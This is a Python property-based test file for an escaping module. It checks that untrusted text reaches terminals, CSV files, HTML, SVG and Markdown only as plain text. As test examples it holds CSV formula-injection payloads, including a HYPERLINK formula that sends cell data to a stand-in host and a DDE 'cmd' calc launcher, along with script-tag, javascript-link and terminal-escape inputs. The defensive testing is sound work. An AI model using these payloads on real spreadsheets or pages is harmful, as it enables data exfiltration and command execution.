"""What strangers wrote reaches no terminal, spreadsheet, Markdown or drawing as anything but text."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from provenance import escapes
from provenance.classifier.assessment import Roc
from provenance.classifier.plots import roc_plot
from provenance.cli import output

HOSTILE = st.text(
    st.one_of(
        st.characters(exclude_categories=()),
        st.sampled_from("\x1b\x9b\x07\r\n\t\u202e\u2066\u200b\x7f=+-@|`<>&\"'\\*_[]()#\ufeff\U000e0041"),
    ),
    max_size=60,
)
OBEYED = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def test_every_character_that_a_terminal_obeys_is_shown():
    sent = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in OBEYED]
    assert len(sent) > 100_000
    assert not [character for character in sent if character in escapes.terminal(character)]


@given(HOSTILE)
def test_a_terminal_gets_one_line_of_plain_text(text):
    shown = escapes.terminal(text)
    assert not {unicodedata.category(character) for character in shown} & OBEYED
    assert shown.encode().decode() == shown
    assert escapes.terminal(shown) == shown
    if not {unicodedata.category(character) for character in text} & OBEYED:
        assert shown == text


@given(HOSTILE)
def test_everything_that_is_printed_is_clean(text):
    out, err = io.StringIO(), io.StringIO()
    before = sys.stdout, sys.stderr
    sys.stdout, sys.stderr = out, err
    try:
        output.emit(text)
        output.note(text)
        output.table((text,), [(text,)], title=text)
        output.emit_json({text: [text]})
    finally:
        sys.stdout, sys.stderr = before
    for printed in (out.getvalue(), err.getvalue()):
        assert not {unicodedata.category(character) for character in printed if character != "\n"} & OBEYED


@given(HOSTILE)
def test_json_says_the_same_without_what_a_terminal_obeys(text):
    written = escapes.json_text(json.dumps({"a": text}, ensure_ascii=False))
    assert not {unicodedata.category(character) for character in written} & OBEYED
    said = json.loads(written)["a"]
    assert said.encode("utf-16", "surrogatepass") == text.encode("utf-16", "surrogatepass")


@given(HOSTILE)
@example('=HYPERLINK("https://x.example/?"&A1)')
@example("+1+cmd|' /C calc'!A0")
@example("\t=1+1")
@example(" =1+1")
@example("\r\n@SUM(1)")
@example("＝1+1")
def test_no_cell_is_a_formula(text):
    cell = escapes.csv_cell(text)
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell, "next"])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == [cell, "next"]
    first = cell.lstrip(" \xa0\u3000")[:1]
    assert first not in set("=+-@\t\r\n＝＋－＠") or re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?%?", cell)
    assert not set(cell) & {"\x1b", "\x9b", "\u202e", "\u2066", "\x00"}


@pytest.mark.parametrize("value", [1, -1.5, None, "-1", "-1.5e3", "+20%", "plain", "a=b", "", "naïve", "می\u200cخواهم"])
def test_numbers_and_plain_text_stay(value):
    assert escapes.csv_cell(value) == value


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.seen, self.text = [], ""

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, attrs))

    def handle_data(self, data):
        self.text += data


@given(HOSTILE)
def test_markup_holds_nothing_but_text(text):
    escaped = escapes.markup(text)
    reader = _Reader()
    reader.feed(f'<p title="{escaped}">{escaped}</p>')
    reader.close()
    shown = re.sub("[\ufffe\uffff]", lambda found: f"\\u{ord(found[0]):04x}", escapes.terminal_lines(text))
    assert reader.text == shown
    assert reader.seen == [("p", [("title", shown)])]


@given(HOSTILE)
def test_a_drawing_is_well_formed_whatever_its_title(text):
    drawing = ElementTree.fromstring(roc_plot(Roc((0.0, 1.0), (0.0, 1.0), (1.0, 0.0), 0.5), text))
    assert drawing.find("{http://www.w3.org/2000/svg}title") is not None
    assert not list(drawing.iter("{http://www.w3.org/2000/svg}script"))


@given(HOSTILE)
@example("[a](javascript:x)")
@example("<script>alert(1)</script>")
@example("a | b")
@example("https://x.example/")
def test_markdown_holds_no_markup(text):
    line = escapes.markdown(text)
    assert "\n" not in line
    bare = re.sub(r"\\[\\`*_{}\[\]()<>#!|~&$@/]", "", line)
    assert not set(bare) & set("`*_[]<>|~&")
    assert "://" not in line
    assert re.sub(r"\\([\\`*_{}\[\]()<>#!|~&$@/])", r"\1", line) == escapes.terminal(text)


@given(HOSTILE)
@example("``a`")
@example("`")
def test_inline_code_ends_where_it_should(text):
    span = escapes.code_span(text)
    fence = re.match("`+", span)[0]
    inner = span[len(fence) : -len(fence)]
    assert fence not in re.findall("`+", inner)
    assert inner.replace("\\|", "|").strip() == escapes.terminal(text).strip() or "\\|" in text
